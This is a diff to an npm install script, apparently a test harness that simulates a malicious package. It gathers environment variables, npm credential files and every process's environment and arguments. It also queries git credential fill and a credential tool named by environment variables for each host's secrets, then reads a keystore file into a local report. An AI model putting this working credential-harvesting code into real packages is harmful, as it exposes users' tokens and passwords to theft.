@@ -1,6 +1,7 @@
 // SPDX-License-Identifier: ISC
 // An install script that writes down everything it can read: its environment, the files where npm's credentials
 // lie, and of every process its environment, its arguments and what its descriptors give.
+const { spawnSync } = require('child_process')
 const fs = require('fs')
 const path = require('path')
 
@@ -55,4 +56,21 @@ for (const pid of list('/proc').filter((name) => /^[0-9]+$/.test(name))) {
   }
   report.processes[pid] = about
 }
+// Whoever hands out credentials is asked, as the tools themselves would.
+function ask (command, args, input) {
+  const r = spawnSync(command, args, { input, encoding: 'latin1', timeout: 10000, env: { ...env, GIT_TERMINAL_PROMPT: '0' } })
+  return `${r.stdout}${r.stderr}`
+}
+report.asked = {}
+for (const host of (env.THIEF_HOSTS || '').split(' ').filter(Boolean)) {
+  const description = `protocol=https\nhost=${host}\n\n`
+  const valetkey = env.THIEF_VALETKEY
+  report.asked[host] = {
+    git: ask('git', ['credential', 'fill'], description),
+    helper: ask(valetkey, ['helper', 'git-credential', 'get'], description),
+    get: ask(valetkey, ['get', `https://${host}`]),
+    run: ask(valetkey, ['run', '--with', 'get', '--', valetkey, 'get', `https://${host}`])
+  }
+}
+report.files.keystore = read(env.THIEF_KEY || '')
 if (env.REPORT) fs.writeFileSync(env.REPORT, JSON.stringify(report, null, 1))
